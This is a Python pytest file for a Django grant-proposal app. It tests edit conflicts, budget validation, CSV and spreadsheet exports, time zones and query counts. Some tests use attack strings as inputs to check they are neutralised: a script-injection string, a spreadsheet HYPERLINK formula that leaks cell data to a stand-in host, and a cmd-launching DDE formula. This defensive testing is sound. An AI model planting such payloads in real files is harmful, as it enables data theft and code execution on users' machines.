"""The pages: forms that keep what was typed, the conflict page, exports, time zones and flat query counts."""

import csv
import datetime
import io
from decimal import Decimal
from html import unescape

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from proposals import services
from proposals.models import BudgetLine, Call, Expense, Proposal, ProposalVersion, ReviewAssignment
from tests.factories import (
    BaselineLineFactory,
    BudgetLineFactory,
    ExpenseFactory,
    KeyActivityFactory,
    ProposalFactory,
)
from tests.helpers import cold_queries_for, queries_for

pytestmark = pytest.mark.django_db


def url(name, *args):
    return reverse(f"proposals:{name}", args=args)


def form_data(proposal, **changes):
    section = proposal.call.sections.get()
    data = {
        "version": proposal.version,
        "title": proposal.title,
        "summary": proposal.summary,
        "problem": proposal.problem,
        "objectives": proposal.objectives,
        "rightsholders": proposal.rightsholders,
        "expected_reach": proposal.expected_reach or "",
        "risks": proposal.risks,
        f"section_{section.pk}": proposal.section_answers.get(str(section.pk), ""),
    }
    return data | changes


def flashed(response):
    from django.contrib.messages import get_messages

    return [str(message) for message in get_messages(response.wsgi_request)]


class TestWritingTogether:
    def test_saving_without_a_change_makes_no_version(self, as_user, proposal, author):
        response = as_user(author).post(url("proposal_update", proposal.pk), form_data(proposal))
        assert flashed(response) == ["Nothing had changed, so no new version was made."]
        assert Proposal.objects.get(pk=proposal.pk).version == 1

    def test_a_save_makes_a_version(self, as_user, proposal, author):
        response = as_user(author).post(url("proposal_update", proposal.pk), form_data(proposal, summary="Revised."))
        assert response.status_code == 302
        assert flashed(response) == ["Saved as version 2."]
        assert Proposal.objects.get(pk=proposal.pk).summary == "Revised."

    def test_a_stale_save_shows_both_texts_and_the_form_keeps_yours(self, client, proposal, author, co_author):
        stale = form_data(proposal)
        client.force_login(co_author)
        client.post(url("proposal_update", proposal.pk), form_data(proposal, summary="Norah's summary."))
        client.force_login(author)
        response = client.post(url("proposal_update", proposal.pk), stale | {"summary": "Srey's <b>summary</b>."})
        assert response.status_code == 409
        html = response.content.decode()
        assert "Someone saved before you" in html
        assert "Norah Lay saved version 2 while you were editing." in html
        assert "Norah&#x27;s summary." in html and "Srey&#x27;s &lt;b&gt;summary&lt;/b&gt;." in html
        assert "<b>summary</b>" not in html
        form = response.context["form"]
        assert (form.initial["summary"], form.initial["version"]) == ("Srey's <b>summary</b>.", 2)
        assert Proposal.objects.get(pk=proposal.pk).summary == "Norah's summary."
        # Resolved: both summaries in one, saved on top of Norah's version.
        merged = stale | {"version": 2, "summary": "Norah's summary. Srey's summary."}
        response = client.post(url("proposal_update", proposal.pk), merged)
        assert response.status_code == 302
        saved = Proposal.objects.get(pk=proposal.pk)
        assert (saved.summary, saved.version) == ("Norah's summary. Srey's summary.", 3)

    def test_an_edit_after_submission_is_refused_and_keeps_what_was_typed(self, as_user, ready_proposal, author):
        stale = form_data(ready_proposal, summary="One more idea I typed.")
        services.proposal_submit(proposal=ready_proposal, by=author)
        response = as_user(author).post(url("proposal_update", ready_proposal.pk), stale)
        assert response.status_code == 200
        html = response.content.decode()
        assert "can no longer be edited." in html
        assert "What you typed is still in the form below, so you can keep a copy." in html
        assert "One more idea I typed." in html

    def test_versions_compare_word_by_word_and_escape_the_text(self, as_user, proposal, author):
        client = as_user(author)
        client.post(
            url("proposal_update", proposal.pk), form_data(proposal, summary="A <script>alert(1)</script> day.")
        )
        response = client.get(url("version_compare", proposal.pk) + "?from=1&to=2")
        html = response.content.decode()
        assert "<ins>&lt;script&gt;alert(1)&lt;/script&gt; day.</ins>" in html
        assert "<script>alert" not in html
        assert [part.label for part in response.context["changes"]] == ["Summary"]

    def test_an_unknown_version_is_404(self, as_user, proposal, author):
        assert as_user(author).get(url("version_compare", proposal.pk) + "?from=1&to=9").status_code == 404


def line_data(**changes):
    data = {
        "category": "materials",
        "activity": "",
        "description": "Exhibition panels",
        "unit": "panel",
        "quantity": "20",
        "unit_cost": "123000",
        "currency": "KHR",
        "rate": "",
        "co_funding": "0",
        "co_funding_source": "",
    }
    return data | changes


class TestBudgetForms:
    @pytest.mark.parametrize(
        ("changes", "message"),
        [
            ({"quantity": "0"}, "The quantity must be more than zero."),
            ({"quantity": "-3"}, "The quantity must be more than zero."),
            ({"unit_cost": "-1"}, "The unit cost must be more than zero."),
            ({"currency": "XYZ"}, "XYZ is not a currency we know. Choose one from the list."),
            ({}, "There is no exchange rate for KHR on this proposal yet. Enter how many KHR make 1 USD."),
        ],
    )
    def test_bad_lines_say_what_is_wrong_and_keep_what_was_typed(self, as_user, proposal, author, changes, message):
        response = as_user(author).post(url("budget_detail", proposal.pk), line_data(**changes))
        html = response.content.decode()
        assert response.status_code == 200
        assert message in html
        assert 'value="Exhibition panels"' in html
        assert not BudgetLine.objects.exists()

    def test_a_line_typed_after_submission_is_refused_and_kept(self, as_user, ready_proposal, author):
        services.proposal_submit(proposal=ready_proposal, by=author)
        response = as_user(author).post(url("budget_detail", ready_proposal.pk), line_data(rate="4100"))
        html = response.content.decode()
        assert response.status_code == 200
        assert "it can no longer be edited." in html
        assert 'value="Exhibition panels"' in html
        assert ready_proposal.budget_lines.count() == 2

    def test_members_who_are_not_co_authors_cannot_add_lines(self, as_user, proposal, cop_member):
        assert as_user(cop_member).post(url("budget_detail", proposal.pk), line_data(rate="4100")).status_code == 403
        assert as_user(cop_member).post(url("activity_list", proposal.pk), {"title": "x"}).status_code == 403
        assert not BudgetLine.objects.exists()

    def test_a_riel_line_with_its_rate_is_converted(self, as_user, proposal, author):
        response = as_user(author).post(url("budget_detail", proposal.pk), line_data(rate="4100"))
        assert response.status_code == 302
        page = as_user(author).get(url("budget_detail", proposal.pk))
        assert page.context["budget"].overall.requested == Decimal("600.00")
        assert "1 USD = 4100 KHR" in page.content.decode()

    def test_the_budget_page_warns_when_over_the_ceiling(self, as_user, proposal, author):
        BudgetLineFactory(proposal=proposal, quantity=Decimal("2"), unit_cost=Decimal("2600"))
        html = as_user(author).get(url("budget_detail", proposal.pk)).content.decode()
        assert "200.00 USD over the ceiling." in html

    def test_submitting_over_the_ceiling_shows_by_how_much(self, as_user, ready_proposal, author):
        BudgetLineFactory(proposal=ready_proposal, quantity=Decimal("1"), unit_cost=Decimal("4400"))
        response = as_user(author).post(url("proposal_submit", ready_proposal.pk), follow=True)
        assert "The budget asks for 5,050.00 USD, 50.00 USD over the call's ceiling of 5,000.00 USD." in (
            unescape(response.content.decode())
        )
        assert Proposal.objects.get(pk=ready_proposal.pk).status == "draft"


class TestExports:
    def test_csv_has_every_line_and_the_totals(self, as_user, ready_proposal, author):
        response = as_user(author).get(url("budget_export_csv", ready_proposal.pk))
        assert response["Content-Disposition"] == f'attachment; filename="budget-cop-ip-{ready_proposal.pk}.csv"'
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0][:3] == ["Category", "Activity", "Description"]
        assert rows[2] == [
            "Materials and supplies",
            "Performance of Kuy-speaking people",
            "Exhibition panels",
            "panel",
            "100.00",
            "20500.00",
            "KHR",
            "2050000.00",
            "0.00",
            "",
            "4100.000000",
            "500.00",
            "500.00",
        ]
        assert ["Overall", "650.00", "0.00", "650.00"] in rows
        assert ["Ceiling of the call", "", "", "5000.00"] in rows

    def test_the_spreadsheet_opens_with_lines_and_totals(self, as_user, ready_proposal, author):
        response = as_user(author).get(url("budget_export_xlsx", ready_proposal.pk))
        workbook = load_workbook(io.BytesIO(response.content))
        assert workbook.sheetnames == ["Budget lines", "Totals"]
        lines = list(workbook["Budget lines"].iter_rows(values_only=True))
        assert lines[1][2] == "Hall for the performance"
        assert lines[2][11] == 500
        assert ("Overall", 650, 0, 650) in list(workbook["Totals"].iter_rows(values_only=True))

    def test_the_spreadsheet_writes_formula_like_text_as_text(self, as_user, ready_proposal, author):
        hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
        ready_proposal.budget_lines.filter(description="Hall for the performance").update(description=hostile)
        ready_proposal.activities.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
        response = as_user(author).get(url("budget_export_xlsx", ready_proposal.pk))
        workbook = load_workbook(io.BytesIO(response.content))
        written = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
        lines = list(workbook["Budget lines"].iter_rows(values_only=True))
        assert lines[1][2] == hostile
        assert lines[1][1] == "@SUM(1+1)*cmd|' /C calc'!A0"

    def test_the_print_view_has_no_buttons(self, as_user, ready_proposal, author):
        html = as_user(author).get(url("budget_print", ready_proposal.pk)).content.decode()
        assert '<main id="main" tabindex="-1" class="print-view">' in html
        assert url("budget_line_delete", ready_proposal.pk, ready_proposal.budget_lines.first().pk) not in html


class TestReviewPages:
    def test_assigning_an_author_is_refused_with_a_message(self, as_user, ready_proposal, author, coordinator):
        services.proposal_submit(proposal=ready_proposal, by=author)
        response = as_user(coordinator).post(url("reviewer_list", ready_proposal.pk), {"reviewer": author.pk})
        assert "Srey Leak is a co-author of this proposal and cannot review it." in response.content.decode()
        assert not ReviewAssignment.objects.exists()

    def test_the_decision_page_tells_the_authors(
        self, client, ready_proposal, author, coordinator, outsider, django_capture_on_commit_callbacks
    ):
        services.proposal_submit(proposal=ready_proposal, by=author)
        services.review_assign(proposal=ready_proposal, reviewer=outsider, by=coordinator)
        client.force_login(coordinator)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(
                url("proposal_decide", ready_proposal.pk), {"decision": "revise", "message": "Add a reflection."}
            )
        assert response.status_code == 302
        assert Proposal.objects.get(pk=ready_proposal.pk).status == "revisions_requested"
        assert {m.to[0] for m in mail.outbox} >= {"srey@cipl.example", "norah@llc.example"}
        client.force_login(author)
        html = client.get(url("proposal_detail", ready_proposal.pk)).content.decode()
        assert "Decision: Revisions requested" in html and "Add a reflection." in html


class TestSpendingPages:
    @pytest.fixture
    def approved(self, ready_proposal, author, coordinator, outsider):
        services.proposal_submit(proposal=ready_proposal, by=author)
        services.review_assign(proposal=ready_proposal, reviewer=outsider, by=coordinator)
        return services.proposal_approve(proposal=ready_proposal, by=coordinator, message="Yes.")

    def expense_data(self, approved, **changes):
        line = approved.baseline_lines.get(description="Exhibition panels")
        data = {
            "line": line.pk,
            "spent_on": datetime.date.today().isoformat(),
            "amount": "2542000",
            "currency": "KHR",
            "rate": "4100",
            "description": "Panels",
        }
        return data | changes

    def test_an_expense_over_the_line_warns(self, as_user, approved, author, coordinator):
        response = as_user(author).post(url("expense_create", approved.pk), self.expense_data(approved))
        assert flashed(response) == [
            "The expense of 2,542,000 KHR was recorded.",
            "Overspent: Exhibition panels has spent 620.00 USD of 500.00 USD approved.",
            "Overspent: Materials and supplies has spent 620.00 USD of 500.00 USD approved.",
        ]
        # The chart counts what a coordinator accepted.
        services.expense_check(expense=approved.expenses.get(), by=coordinator, outcome="accepted")
        html = as_user(author).get(url("expense_list", approved.pk)).content.decode()
        assert "620.00 spent of 500.00" in html and "bar-over" in html

    def test_a_receipt_must_be_a_pdf_or_an_image(self, as_user, approved, author):
        fake = SimpleUploadedFile("receipt.pdf", b"not really a pdf", content_type="application/pdf")
        response = as_user(author).post(url("expense_create", approved.pk), self.expense_data(approved, receipt=fake))
        assert "A receipt must be a PDF, or a PNG, JPEG or WebP image." in response.content.decode()
        assert 'value="Panels"' in response.content.decode()
        assert not Expense.objects.exists()


class TestCalls:
    def call_data(self, cop_ip, **changes):
        data = {
            "title": "Voice small grants 2025",
            "description": "",
            "open_date": "2025-01-06",
            "open_time": "08:00",
            "close_date": "2025-03-31",
            "close_time": "17:00",
            "time_zone": "Asia/Phnom_Penh",
            "eligible_communities": [cop_ip.pk],
            "budget_ceiling": "5000",
            "currency": "USD",
            "sections": "How do rightsholders lead?\n\nWhat will you learn?",
            "criteria": "Relevance | 60\nFeasibility: 40",
        }
        return data | changes

    def test_a_coordinator_opens_a_call_with_sections_and_weighted_criteria(self, as_user, coordinator, cop_ip):
        response = as_user(coordinator).post(url("call_create"), self.call_data(cop_ip))
        call = Call.objects.get()
        assert response.url == call.get_absolute_url()
        assert call.closes_at == datetime.datetime(2025, 3, 31, 10, 0, tzinfo=datetime.UTC)
        assert list(call.sections.values_list("heading", flat=True)) == [
            "How do rightsholders lead?",
            "What will you learn?",
        ]
        assert list(call.criteria.values_list("title", "weight")) == [("Relevance", 60), ("Feasibility", 40)]

    def test_a_criterion_without_a_weight_is_named_by_its_line(self, as_user, coordinator, cop_ip):
        response = as_user(coordinator).post(
            url("call_create"), self.call_data(cop_ip, criteria="Relevance | 60\nFeasibility")
        )
        assert "Line 2: write “criterion | weight” with a weight of 1 or more." in response.content.decode()
        assert not Call.objects.exists()

    def test_times_are_shown_in_the_viewers_time_zone(self, as_user, member, call):
        Call.objects.filter(pk=call.pk).update(
            opens_at=datetime.datetime(2025, 1, 6, 1, 0, tzinfo=datetime.UTC),
            closes_at=datetime.datetime(2025, 3, 31, 10, 0, tzinfo=datetime.UTC),
        )
        member.time_zone = "Europe/Paris"
        member.save()
        html = as_user(member).get(url("call_detail", call.slug)).content.decode()
        assert "Monday 31 March 2025, 12:00 (Europe/Paris)" in html


class TestQueryCounts:
    def test_the_proposal_page_does_not_grow_with_lines_and_versions(
        self, as_user, proposal, author, django_assert_num_queries
    ):
        activity = KeyActivityFactory(proposal=proposal)
        BudgetLineFactory.create_batch(2, proposal=proposal, activity=activity)
        client = as_user(author)
        pages = [
            url("proposal_detail", proposal.pk),
            url("budget_detail", proposal.pk),
            url("version_list", proposal.pk),
        ]
        few = {page: queries_for(client, page) for page in pages}
        # The budget tab's tables are cached (proposals.fragments): a first visit after a change computes them.
        few_cold = cold_queries_for(client, url("budget_detail", proposal.pk))
        activities = KeyActivityFactory.create_batch(5, proposal=proposal)
        for index in range(198):
            BudgetLineFactory(proposal=proposal, activity=activities[index % 5], currency="KHR" if index % 2 else "USD")
        for number in range(2, 21):
            ProposalVersion.objects.create(proposal=proposal, number=number, content={"title": "x"}, saved_by=author)
        Proposal.objects.filter(pk=proposal.pk).update(version=20)
        assert cold_queries_for(client, url("budget_detail", proposal.pk)) == few_cold
        for page, count in few.items():
            client.get(page)  # computes what the new rows made stale
            with django_assert_num_queries(count):
                response = client.get(page)
        assert len(response.context["versions"]) == 20
        assert len(client.get(url("proposal_detail", proposal.pk)).context["budget"].lines) == 200

    def test_the_list_does_not_grow_with_proposals(self, as_user, call, cop_ip, author, django_assert_num_queries):
        ProposalFactory(call=call, community=cop_ip, authors=[author])
        client = as_user(author)
        few = queries_for(client, url("proposal_list"))
        for _ in range(15):
            ProposalFactory(call=call, community=cop_ip, authors=[author], status="approved")
        with django_assert_num_queries(few):
            response = client.get(url("proposal_list"))
        assert response.context["page"].paginator.count == 16

    def test_the_spending_page_does_not_grow_with_expenses(self, as_user, author, django_assert_num_queries, proposal):
        Proposal.objects.filter(pk=proposal.pk).update(status="in_implementation")
        ExpenseFactory(line=BaselineLineFactory(proposal=proposal))
        client = as_user(author)
        few = queries_for(client, url("expense_list", proposal.pk))
        for _ in range(30):
            ExpenseFactory(line=BaselineLineFactory(proposal=proposal))
        with django_assert_num_queries(few):
            client.get(url("expense_list", proposal.pk))
